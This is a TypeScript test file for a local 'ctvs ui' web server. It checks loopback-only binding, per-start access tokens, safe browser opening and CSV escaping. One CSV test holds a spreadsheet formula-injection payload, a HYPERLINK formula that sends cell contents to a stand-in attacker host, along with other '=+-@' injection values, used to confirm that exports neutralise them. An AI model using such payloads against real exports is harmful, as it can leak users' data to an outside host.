import assert from "node:assert/strict";
import { mkdir, readFile, stat, writeFile } from "node:fs/promises";
import path from "node:path";
import process from "node:process";
import { test } from "node:test";
import { DATASETS } from "../../query/datasets.ts";
import { ctvs, startCtvs, tempDir } from "../helpers/child.ts";

async function config(dir: string): Promise<string> {
  const file = path.join(dir, "collectivus.json");
  await writeFile(file, JSON.stringify({ version: 1, gateway_id: "gw", sink: { type: "file", dir: `${dir}/data` } }));
  return file;
}

test("ctvs ui refuses a non-loopback --host without --allow-remote (exit 2, saying why)", async () => {
  const tmp = await tempDir();
  try {
    const result = await ctvs(["ui", "--config", await config(tmp.dir), "--host", "0.0.0.0"]);
    assert.equal(result.code, 2);
    assert.match(
      result.stderr,
      /error: --host 0\.0\.0\.0 is not a loopback address; ctvs ui serves this machine only unless --allow-remote/,
    );
    const port = await ctvs(["ui", "--config", await config(tmp.dir), "--port", "70000"]);
    assert.equal(port.code, 2);
    assert.match(port.stderr, /--port must be 0 to 65535/);
  } finally {
    await tmp.remove();
  }
});

test("ctvs ui serves on loopback with a per-start token every request needs, and stops on SIGTERM", async () => {
  const tmp = await tempDir();
  const file = await config(tmp.dir);
  const urls: string[] = [];
  try {
    for (let i = 0; i < 2; i++) {
      const child = startCtvs(["ui", "--config", file]);
      const line = await child.waitFor(/^ctvs ui: /, 30_000);
      const url = new URL(line.slice("ctvs ui: ".length));
      urls.push(url.href);
      assert.equal(url.hostname, "127.0.0.1");
      const token = url.searchParams.get("token")!;
      const base = `${url.origin}`;
      const bare = await fetch(`${base}/api/status`);
      assert.equal(bare.status, 401);
      await bare.body?.cancel();
      const wrong = await fetch(`${base}/api/status`, { headers: { "x-ctvs-token": `${token}x` } });
      assert.equal(wrong.status, 401);
      await wrong.body?.cancel();
      const status = await fetch(`${base}/api/status`, { headers: { "x-ctvs-token": token } });
      assert.equal(status.status, 200);
      const body = await status.json();
      assert.deepEqual(body.datasets.map((d: { name: string }) => d.name), DATASETS.map((d) => d.name));
      assert.deepEqual(body.screens.trace, ["traces", "logs"]);
      const page = await fetch(url);
      assert.equal(page.status, 200);
      assert.match(await page.text(), new RegExp(`/assets/app\\.js\\?token=${token}`));
      child.kill("SIGTERM");
      const exit = await child.exited;
      assert.equal(exit.code, 0, child.transcript());
    }
    assert.notEqual(new URL(urls[0]).searchParams.get("token"), new URL(urls[1]).searchParams.get("token"));
  } finally {
    await tmp.remove();
  }
});

test("ctvs ui's CSV download shows a recorded formula as text: a cell starting with = + - @ gets a leading '", async () => {
  const tmp = await tempDir();
  const child = startCtvs(["ui", "--config", await config(tmp.dir)]);
  try {
    const url = new URL((await child.waitFor(/^ctvs ui: /, 30_000)).slice("ctvs ui: ".length));
    const sql = `select '=HYPERLINK("http://evil.example/?"&A1,"Click")' as a, '+1+cmd' as b, '@SUM(1)' as c, ` +
      `'-2+3' as d, 'plain' as e, -5 as n, 1.5 as x`;
    const csv = new URL("/api/sql.csv", url);
    csv.search = new URLSearchParams({ sql, token: url.searchParams.get("token")! }).toString();
    const response = await fetch(csv);
    assert.equal(response.status, 200);
    assert.equal(
      await response.text(),
      `a,b,c,d,e,n,x\n"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+cmd,'@SUM(1),'-2+3,plain,-5,1.5\n`,
    );
    // The CLI's CSV is for programs: it stays as the values are.
    const cli = await ctvs(["query", "sql", sql, "--format", "csv", "--config", await config(tmp.dir)]);
    assert.equal(
      cli.stdout,
      `a,b,c,d,e,n,x\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+1+cmd,@SUM(1),-2+3,plain,-5,1.5`,
    );
  } finally {
    child.kill("SIGTERM");
    await child.exited;
    await tmp.remove();
  }
});

test("ctvs ui --open hands the browser a private page that goes to the URL, never the token on a command line", async () => {
  const tmp = await tempDir();
  // A desktop opener that writes what it was given (xdg-open on Linux, open on macOS).
  const bin = path.join(tmp.dir, "bin");
  const seen = path.join(tmp.dir, "opened.txt");
  await mkdir(bin);
  for (const name of ["xdg-open", "open"]) {
    await writeFile(path.join(bin, name), `#!/bin/sh\nprintf '%s\\n' "$@" > '${seen}'\n`, { mode: 0o755 });
  }
  const child = startCtvs(["ui", "--open", "--config", await config(tmp.dir)], {
    env: { PATH: `${bin}:${process.env.PATH}` },
  });
  try {
    const url = (await child.waitFor(/^ctvs ui: /, 30_000)).slice("ctvs ui: ".length);
    const token = new URL(url).searchParams.get("token")!;
    let args = "";
    for (let i = 0; i < 100 && !args; i++) {
      args = await readFile(seen, "utf8").catch(() => "");
      if (!args) await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const opened = args.trim();
    assert.ok(!opened.includes(token), `the token was on the opener's command line: ${opened}`);
    assert.ok(path.isAbsolute(opened) && opened.endsWith(".html"), opened);
    assert.equal((await stat(opened)).mode & 0o777, 0o600);
    assert.equal((await stat(path.dirname(opened))).mode & 0o777, 0o700);
    const page = await readFile(opened, "utf8");
    assert.ok(page.includes(`<meta http-equiv="refresh" content="0;url=${url}">`), page);
    child.kill("SIGTERM");
    assert.equal((await child.exited).code, 0, child.transcript());
    await assert.rejects(stat(opened), { code: "ENOENT" });
  } finally {
    if (child.process.exitCode === null && child.process.signalCode === null) child.kill("SIGTERM");
    await child.exited;
    await tmp.remove();
  }
});
